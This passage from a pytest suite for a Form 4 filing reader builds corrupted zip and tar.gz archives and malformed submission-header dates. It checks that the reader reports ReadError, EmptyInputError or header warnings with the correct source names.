        struct.pack_into("<H", data, local + 8, 97)
        struct.pack_into("<H", data, central + 10, 97)
    path.write_bytes(bytes(data))
    return path


@pytest.mark.parametrize("how", ["corrupt-deflate-data", "encrypted", "unknown-compression"])
def test_zip_member_that_cannot_be_extracted_is_a_read_error(how: str, tmp_path: Path) -> None:
    path = _broken_zip(tmp_path / "filings.zip", how)
    errors: list[ReadError] = []
    filings = list(read_many(path, on_error=errors.append))
    assert filings == [read(FORM4), read(LARGE)]
    assert len(errors) == 1 and isinstance(errors[0], ReadError)
    assert_well_formed(errors[0], f"{path}!{SMALL.name}")
    with pytest.raises(ReadError) as info:
        list(read_many(path))
    assert_well_formed(info.value, f"{path}!{SMALL.name}")


def _tar_bytes(paths: list[Path]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for p in paths:
            archive.add(p, arcname=p.name)
    return buffer.getvalue()


@pytest.mark.parametrize("cut", [20, 100, 0.5])
def test_truncated_tar_gz_is_a_read_error(cut: float, tmp_path: Path) -> None:
    data = gzip.compress(_tar_bytes([SMALL, FORM4, LARGE]))
    path = tmp_path / "filings.tar.gz"
    path.write_bytes(data[: int(cut * len(data)) if cut < 1 else int(cut)])
    errors: list[ReadError] = []
    list(read_many(path, on_error=errors.append))
    assert errors and all(isinstance(e, ReadError) for e in errors)
    for error in errors:
        assert_well_formed(error, error.source)
        assert error.source.startswith(str(path))
    with pytest.raises(ReadError):
        list(read_many(path))


def test_tar_gz_with_corrupt_deflate_data_is_a_read_error(tmp_path: Path) -> None:
    tar = _tar_bytes([LARGE, SMALL])
    second = 512 + -(-LARGE.stat().st_size // 512) * 512  # where the second member starts
    compressor = zlib.compressobj(0, zlib.DEFLATED, -15)  # stored: the damage lies far in
    body = compressor.compress(tar[:second]) + compressor.flush(zlib.Z_FULL_FLUSH)
    gzip_header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"
    path = tmp_path / "filings.tar.gz"
    path.write_bytes(gzip_header + body + b"\xff" * 64)  # then a deflate block of type 3
    errors: list[ReadError] = []
    list(read_many(path, on_error=errors.append))
    assert errors and all(isinstance(e, ReadError) for e in errors)
    for error in errors:
        assert_well_formed(error, error.source)
        assert error.source.startswith(str(path))
    with pytest.raises(ReadError):
        list(read_many(path))


def test_read_many_over_bytes_sources_names_them(tmp_path: Path) -> None:
    errors: list[ReadError] = []
    sources: list[bytes | Path] = [SMALL.read_bytes(), b"", _junk(), tmp_path / "missing.xml"]
    filings = list(read_many(sources, on_error=errors.append))
    assert filings == [read(SMALL)]
    assert [type(e) for e in errors] == [EmptyInputError, UnrecognizedFormatError, ReadError]
    assert [e.source for e in errors] == ["<bytes>", "<bytes>", str(tmp_path / "missing.xml")]
    for error in errors:
        assert_well_formed(error, error.source)


def test_module_exports() -> None:
    assert form4.ReadError is ReadError
    assert issubclass(UnsafeInputError, ReadError) and issubclass(ReadError, form4.Form4Error)


@pytest.mark.parametrize(
    ("old", "new", "filed", "accepted", "warned"),
    [
        (b"", b"", date(2024, 5, 1), datetime(2024, 5, 1, 13, 7, 22), None),
        (b"\t\t20240501", b"\t\t20241301", None, ..., "FILED AS OF DATE '20241301'"),
        (b"\t\t20240501", b"\t\t2024-05-01", None, ..., "FILED AS OF DATE '2024-05-01'"),
        (b">20240501130722", b">20240501250722", ..., None, "ACCEPTANCE-DATETIME"),
        (b">20240501130722", b">2024050113", ..., None, "ACCEPTANCE-DATETIME '2024050113'"),
    ],
    ids=["as-filed", "month-13", "dashed", "hour-25", "short-time"],
)
def test_submission_header_dates_and_times(
    old: bytes, new: bytes, filed: object, accepted: object, warned: str | None
) -> None:
    data = SUBMISSION.read_bytes()
    assert old in data
    filing = read(data.replace(old, new, 1), name="sub.txt")
    assert filing.header is not None
    if filed is not ...:
        assert filing.header.filed == filed
    if accepted is not ...:
        assert filing.header.accepted == accepted
    messages = [f"{w.place}: {w.message}" for w in filing.source.warnings]
    if warned is None:
        assert not any("header" in m for m in messages), messages
    else:
        assert any(m.startswith("header") and warned in m for m in messages), messages
